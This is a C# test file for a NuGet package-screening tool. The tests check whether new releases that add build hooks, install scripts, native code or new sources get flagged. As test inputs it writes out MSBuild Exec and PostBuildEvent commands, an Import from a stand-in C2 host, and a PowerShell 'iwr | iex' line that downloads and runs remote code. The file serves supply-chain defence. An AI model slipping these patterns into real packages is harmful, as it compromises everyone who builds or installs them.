using System.Text;
using Sluice.Comparison;
using Sluice.Findings;
using Sluice.Profiles;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

/// <summary>What is news of a NuGet package, and what its next releases bring anyway.</summary>
public sealed class NugetShapeTests
{
    private const string Targets = """<Project><UsingTask TaskName="Acme" AssemblyFile="$(MSBuildThisFileDirectory)..\tools\Acme.Task.dll" /><Target Name="A" AfterTargets="Build"><Acme /><Copy SourceFiles="a" DestinationFolder="b" /></Target></Project>""";

    private static readonly byte[] Library = new TestLibrary().Calls("System.Console.WriteLine").Writes("hello").Build();

    private static readonly Lazy<ProfileBook> Known = new(() => Learn(release => Pack(release)));

    /// <summary>The next release of an honest project.</summary>
    [Theory]
    [InlineData("lib/net12.0/Acme.dll")]
    [InlineData("lib/netstandard2.1/Acme.dll")]
    [InlineData("ref/net10.0/Acme.dll")]
    [InlineData("lib/net10.0/de/Acme.resources.dll")]
    [InlineData("lib/portable-net45+win8/Acme.dll")]
    [InlineData("analyzers/dotnet/roslyn5.0/cs/Acme.Analyzers.dll")]
    [InlineData("analyzers/dotnet/cs/de/Acme.Analyzers.resources.dll")]
    [InlineData("analyzers/dotnet/cs/Acme.Common.dll")]
    public void Another_framework_or_language_is_no_news_that_stops(string path) => Assert.DoesNotContain(Found(Known.Value, Pack(9, (path, Library))), finding => finding.Severity >= Severity.High);

    [Theory]
    [InlineData("build/net12.0/Acme.targets")]
    [InlineData("buildTransitive/Acme.targets")]
    [InlineData("buildMultiTargeting/Acme.targets")]
    public void The_same_file_for_other_builds_is_no_news_that_stops(string path) => Assert.DoesNotContain(Found(Known.Value, Pack(9, (path, Encoding.UTF8.GetBytes(Targets)))), finding => finding.Severity >= Severity.Medium);

    [Fact]
    public void Papers_beside_analyzers_run_nowhere() => Assert.DoesNotContain(Found(Known.Value, Pack(9, ("analyzers/dotnet/AnalyzerReleases.Shipped.md", "# x"u8.ToArray()))), finding => finding.Rule.Id == "deviation/new-script");

    [Theory]
    [InlineData("""<Target Name="A"><Exec Command="whoami" /></Target>""")]
    [InlineData("""<Target Name="A"><exec command="whoami" /></Target>""")]
    [InlineData("""<Target Name="A"><DownloadFile SourceUrl="$(Where)" DestinationFolder="x" /></Target>""")]
    [InlineData("""<Import Project="https://c2.example/x.targets" />""")]
    [InlineData("""<Import Project="Sdk.props" Sdk="Acme.Other/1.0.0" />""")]
    [InlineData("""<UsingTask TaskName="B" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.Core.dll"><Task><Code>Log.LogMessage("x");</Code></Task></UsingTask>""")]
    [InlineData("""<PropertyGroup><PostBuildEvent>whoami</PostBuildEvent></PropertyGroup>""")]
    public void A_file_that_begins_to_have_builds_run_something_stops_the_release(string element) =>
        Assert.Contains(Found(Known.Value, Pack(9, ("build/Acme.targets", Encoding.UTF8.GetBytes(Targets.Replace("</Project>", element + "</Project>", StringComparison.Ordinal))))), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });

    [Theory]
    [InlineData("""<ItemGroup><Analyzer Remove="@(Analyzer)" /><None Include="readme.md" /></ItemGroup>""")]
    [InlineData("""<Import Project="$(MSBuildThisFileDirectory)Acme.Common.targets" />""")]
    [InlineData("""<UsingTask TaskName="Copy" AssemblyName="Microsoft.Build.Tasks.Core" />""")]
    [InlineData("""<Target Name="B"><WriteLinesToFile File="x" Lines="y" /></Target>""")]
    public void What_builds_do_anyway_is_no_command(string element) =>
        Assert.DoesNotContain(Found(Known.Value, Pack(9, ("build/Acme.targets", Encoding.UTF8.GetBytes(Targets.Replace("</Project>", element + "</Project>", StringComparison.Ordinal))))), finding => finding.Rule.Id == "deviation/new-script");

    [Fact]
    public void A_file_that_builds_load_may_be_called_anything() =>
        Assert.Contains(Found(Known.Value, Pack(9, ("tools/notes.txt", """<?xml version="1.0"?><Project><Target Name="A"><Exec Command="whoami" /></Target></Project>"""u8.ToArray()))), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });

    [Fact]
    public void Another_assembly_of_tasks_warns()
    {
        var found = Found(Known.Value, Pack(9, ("build/Acme.targets", Encoding.UTF8.GetBytes(Targets.Replace("Acme.Task.dll", "Acme.Tasks.dll", StringComparison.Ordinal)))));

        Assert.Equal(Severity.Medium, found.Where(finding => finding.Rule.Id == "deviation/new-script").Max(finding => finding.Severity));
    }

    [Fact]
    public void A_file_of_builds_that_cannot_be_read_is_told() =>
        Assert.Contains(Found(Known.Value, Pack(9, ("build/Acme.targets", "<Project><Exec"u8.ToArray()))), finding => finding.Rule.Id == "deviation/new-script");

    /// <summary>Of a library without any of it.</summary>
    [Theory]
    [InlineData("build/Plain.targets", "<Project />")]
    [InlineData("Sdk/Sdk.props", "<Project />")]
    [InlineData("tools/net10.0/install.ps1", "exit 0")]
    [InlineData("TOOLS/Init.ps1", "exit 0")]
    public void The_first_that_runs_by_itself_stops_the_release(string path, string text) =>
        Assert.Contains(Found(Learn(Plain), Plain(9, (path, Encoding.UTF8.GetBytes(text)))), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });

    [Theory]
    [InlineData("exit 0", "exit 0\n# SIG # Begin signature block\n# MIIX\n# SIG # End signature block\n", Severity.Info)]
    [InlineData("exit 0", "exit 1\n", Severity.Medium)]
    [InlineData("exit 0", "#Requires -Modules Other\nexit 0\n", Severity.Medium)]
    [InlineData("exit 0", "iwr $x | iex\n", Severity.High)]
    public void Another_script_of_installation_warns_and_stops_where_it_fetches(string before, string after, Severity worst)
    {
        var book = Learn(release => Plain(release, ("tools/install.ps1", Encoding.UTF8.GetBytes(before))));

        Assert.Equal(worst, Found(book, Plain(9, ("tools/install.ps1", Encoding.UTF8.GetBytes(after)))).Where(finding => finding.Rule.Id == "deviation/new-script").Select(finding => finding.Severity).Append(Severity.Info).Max());
    }

    [Fact]
    public void The_first_analyzer_stops_the_release() =>
        Assert.Contains(Found(Learn(Plain), Plain(9, ("analyzers/dotnet/cs/Plain.Gen.dll", Library))), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });

    [Fact]
    public void Native_code_is_news_beside_assemblies()
    {
        Assert.Contains(Found(Known.Value, Pack(9, ("lib/net10.0/Acme.Native.dll", new TestLibrary().Build(isMixed: true)))), finding => finding is { Rule.Id: "deviation/new-executable", Severity: Severity.High } && finding.Message.Contains("native code", StringComparison.Ordinal));
        Assert.DoesNotContain(Found(Known.Value, Pack(9, ("lib/net10.0/Acme.Native.dll", Library))), finding => finding.Rule.Id == "deviation/new-executable");
    }

    [Fact]
    public void The_first_assembly_is_news()
    {
        var book = Learn(release => Plain(release, ("lib/net10.0/Plain.dll", Encoding.UTF8.GetBytes("text"))));

        Assert.Contains(Found(book, Plain(9, ("lib/net10.0/Plain.dll", "text"u8.ToArray()), ("lib/net10.0/Other.dll", Library))), finding => finding is { Rule.Id: "deviation/new-executable", Severity: Severity.High });
    }

    [Fact]
    public void An_assembly_that_begins_to_start_programs_stops_the_release() =>
        Assert.Contains(Found(Known.Value, Pack(9, ("lib/net10.0/Acme.dll", new TestLibrary().Calls("System.Console.WriteLine").Calls("System.Diagnostics.Process.Start").Writes("hello", "git").Build()))), finding => finding is { Rule.Id: "deviation/new-capability", Severity: Severity.High });

    [Fact]
    public void What_the_registry_adds_to_a_package_is_no_other_package()
    {
        var signed = Pack(5, (".signature.p7s", "signature"u8.ToArray()));

        Assert.DoesNotContain(Found(Known.Value, signed), finding => finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal) || finding.Rule.Id == "provenance/mutable-reference");
    }

    [Fact]
    public void Symbols_are_nothing_to_be_unpacked() =>
        Assert.DoesNotContain(Found(Known.Value, Pack(9, ("lib/net10.0/Acme.pdb", [.. "BSJB\x01\0\x01\0\0\0\0\0\x0c\0\0\0PDB v1.0\0\0\0\0\0\0"u8]))), finding => finding is { Severity: >= Severity.High } && finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal));

    [Theory]
    [InlineData("acme", "Acme.dll", null, Severity.Info)]
    [InlineData("dotnet-build", "Acme.dll", null, Severity.High)]
    [InlineData("acme", "Other.dll", null, Severity.Medium)]
    [InlineData("acme", "Acme.dll", "Acme.Tool.linux-x64", Severity.Low)]
    public void What_a_tool_is_called_and_begins_with_is_learned(string command, string file, string? other, Severity worst)
    {
        static byte[] Tool(int release, string command = "acme", string file = "Acme.dll", string? other = null, string framework = "net10.0") => Plain(release, ($"tools/{framework}/any/DotnetToolSettings.xml", Encoding.UTF8.GetBytes(
            $"""<DotNetCliTool Version="1"><Commands><Command Name="{command}" EntryPoint="{file}" Runner="dotnet" /></Commands>{(other is null ? "" : $"<RuntimeIdentifierPackages><RuntimeIdentifierPackage RuntimeIdentifier=\"linux-x64\" Id=\"{other}\" /></RuntimeIdentifierPackages>")}</DotNetCliTool>""")),
            ($"tools/{framework}/any/Acme.dll", Library), ($"tools/{framework}/any/Other.dll", Library));
        var book = Learn(release => Tool(release));

        Assert.DoesNotContain(Found(book, Tool(9, framework: "net12.0")), finding => finding.Severity > Severity.Info && finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal));
        Assert.Equal(worst, Found(book, Tool(9, command, file, other)).Where(finding => finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal)).Select(finding => finding.Severity).Append(Severity.Info).Max());
    }

    [Theory]
    [InlineData("<repository type=\"git\" url=\"https://github.com/Acme/acme.git\" commit=\"0123456789012345678901234567890123456789\" />", null)]
    [InlineData("<repository type=\"git\" url=\"https://github.com/evil/acme\" />", "deviation/publisher")]
    [InlineData("<repository type=\"git\" url=\"https://github.com/acme/acme\" /><packageTypes><packageType name=\"Dependency\" /><packageType name=\"DotnetTool\" /></packageTypes>", "deviation/new-kind")]
    public void Another_source_or_type_of_package_warns(string manifest, string? rule)
    {
        static byte[] Sourced(int release, string manifest) => Plain(release, manifest, []);
        var book = Learn(release => Sourced(release, "<repository type=\"git\" url=\"https://github.com/acme/acme\" />"));

        Assert.Equal(rule, Found(book, Sourced(9, manifest)).FirstOrDefault(finding => finding.Severity > Severity.Info && finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal))?.Rule.Id);
    }

    [Theory]
    [InlineData("https://github.com/Acme/acme.git", "github.com/acme/acme")]
    [InlineData("git@github.com:acme/acme.git", "github.com/acme/acme")]
    [InlineData("https://raw.githubusercontent.com/acme/acme/0123456789012345678901234567890123456789/*", "github.com/acme/acme")]
    [InlineData("https://gitlab.example/group/sub/acme/-/raw/0123456789012345678901234567890123456789/*", "gitlab.example/group/sub/acme")]
    [InlineData("https://www.acme.example/?x", "acme.example")]
    [InlineData("", "")]
    public void One_source_has_many_addresses(string address, string repository) => Assert.Equal(repository, NugetTraits.RepositoryOf(address));

    [Fact]
    public void Symbols_have_a_profile_of_their_own()
    {
        const string type = "<packageTypes><packageType name=\"SymbolsPackage\" /></packageTypes>";
        var symbols = ReleaseShape.Of(Screening.Of("acme.snupkg", Plain(5, type, [])).Artifact);
        var disguised = ReleaseShape.Of(Screening.Of("acme.snupkg", Plain(5, type, [("lib/net10.0/Acme.dll", Library)])).Artifact);

        Assert.Equal("nuget:Acme (symbols)", symbols.Package);
        Assert.Equal("nuget:Acme", disguised.Package);
    }

    [Fact]
    public void A_difference_lists_what_runs_by_itself_and_pairs_what_tools_name_anew()
    {
        var difference = ReleaseDifference.Between(Screening.Of("a.nupkg", Pack(1)), Screening.Of("a.nupkg", Pack(2, ("build/Acme.targets", "<Project />"u8.ToArray()), ("tools/init.ps1", "exit 0"u8.ToArray()))));

        Assert.Equal(["build/Acme.targets", "tools/init.ps1"], difference.Scripts.Select(change => change.Name));
        Assert.Equal(["tools/init.ps1"], difference.Added.Select(change => change.Path));
        Assert.Empty(difference.Removed);
    }

    private static byte[] Pack(int release, params (string Path, byte[] Bytes)[] more) => Plain(release, [.. more,
        .. new (string, byte[])[]
        {
            ("build/Acme.targets", Encoding.UTF8.GetBytes(Targets)), ("tools/Acme.Task.dll", Library), ("analyzers/dotnet/cs/Acme.Analyzers.dll", Library), ("lib/net10.0/Acme.dll", Library), ("lib/net10.0/de/Acme.Other.dll", Library),
        }.Where(file => !more.Any(other => other.Path == file.Item1))]);

    private static byte[] Plain(int release) => Plain(release, []);

    private static byte[] Plain(int release, params (string Path, byte[] Bytes)[] more) => Plain(release, "", more);

    /// <param name="manifest">More of the .nuspec.</param>
    private static byte[] Plain(int release, string manifest, (string Path, byte[] Bytes)[] more) => TestArchive.Zip(
    [
        ("Acme.nuspec", Encoding.UTF8.GetBytes($"""<?xml version="1.0"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Acme</id><version>1.0.{release}</version><authors>Acme</authors><license type="expression">MIT</license>{manifest}</metadata></package>""")),
        ("lib/net10.0/Acme.xml", Encoding.UTF8.GetBytes($"<doc>{release}{new string('x', 40_000)}</doc>")),
        ($"package/services/metadata/core-properties/{release:x32}.psmdcp", "<coreProperties />"u8.ToArray()),
        .. more,
    ]);

    private static ProfileBook Learn(Func<int, byte[]> pack)
    {
        var book = new ProfileBook { Survey = Survey.Parse("800") };
        for (var release = 1; release <= 8; release++)
            book.Approve(Screening.Of("acme.nupkg", pack(release), new ScreenOptions { Profiles = new ProfileBook(), HashesAll = true }));
        return book;
    }

    private static List<Finding> Found(ProfileBook book, byte[] release) => [.. Screening.Of("acme.nupkg", release, new ScreenOptions { Profiles = book }).Findings.Select(reported => reported.Finding)];
}
